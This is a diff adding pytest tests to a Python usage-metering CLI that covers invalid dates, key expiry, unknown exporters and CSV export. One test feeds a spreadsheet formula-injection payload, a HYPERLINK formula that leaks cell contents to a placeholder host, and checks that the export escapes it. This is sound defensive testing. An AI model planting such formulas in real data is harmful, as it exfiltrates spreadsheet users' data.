@@ -20,7 +20,7 @@ from millstream.errors import Unauthorized
 from millstream.ledger import Ledger
 from millstream.ledger.exports import Exports
 from millstream.meter import Meter
-from millstream.schema import hours
+from millstream.schema import hours, keys
 from millstream.usage import Usage
 
 
@@ -60,6 +60,24 @@ def test_a_key_is_made_changed_and_rotated() -> None:
     listed = millstream("keys", "list")
     assert "acme" in listed
     assert "plan=free" in listed
+
+
+@pytest.mark.parametrize("date", ["9999-12-31", "0001-01-01", "999999d"])
+def test_a_time_that_no_report_can_have_is_said(date: str) -> None:
+    record()
+    done = CliRunner().invoke(app, ["usage", "--by", "day", "--since", date])
+    assert done.exit_code == 2
+    assert "1970 to 9998" in done.stderr
+
+
+def test_keys_that_expire_at_no_date_are_listed() -> None:
+    made = from_json("keys", "create", "--name", "n")
+    db = Database("sqlite:///millstream-data/millstream.db")
+    db.run(lambda connection: connection.execute(sa.update(keys).values(expires_at=1e300)))
+    db.close()
+    listed = millstream("keys", "list")
+    assert made["id"] in listed
+    assert "1e+300" in listed
 
 
 def record(*rows: dict[str, Any]) -> None:
@@ -188,8 +206,31 @@ def test_an_invoice_is_compared_and_what_differs_is_said(tmp_path: Path) -> None
         6,
     )
     assert "completion_tokens" in millstream("usage", "verify", "--invoice", str(invoice), code=1)
+    millstream("usage", "verify", "--invoice", str(invoice), "--since", "1d", code=2)
     invoice.write_bytes(b"\xff\xfe")
     millstream("usage", "verify", "--invoice", str(invoice), code=2)
+
+
+def test_no_exporter_is_told_from_one_for_which_nothing_has_failed(tmp_path: Path) -> None:
+    record()
+    (tmp_path / "millstream.toml").write_text(
+        '[exporters.books]\ntype = "webhook"\nurl = "https://a.test/"\nsecret = "whsec_' + "A" * 32 + '"\n'
+    )
+    assert "0 streams" in millstream("exports", "retry", "books")
+    done = CliRunner().invoke(app, ["exports", "retry", "bosok"])
+    assert (done.exit_code, done.stderr) == (
+        1,
+        "millstream: there is no exporter 'bosok', and nothing waits for one\n",
+    )
+
+
+def test_no_name_is_a_formula_in_a_spreadsheet() -> None:
+    record({"model": "-m", "provider": "p", "user": '=HYPERLINK("http://x/?"&A1)'}, {"model": "m"})
+    (named, plain) = list(csv.reader(io.StringIO(millstream("usage", "--by", "user,model", "--csv"))))[1:]
+    cells = sorted([named[:2], plain[:2]])
+    assert cells == [["", "m"], ['\'=HYPERLINK("http://x/?"&A1)', "'-m"]]
+    rows = csv.DictReader(io.StringIO(millstream("usage", "export")))
+    assert sorted(row["model"] for row in rows) == ["'-m", "m"]
 
 
 @pytest.mark.parametrize(
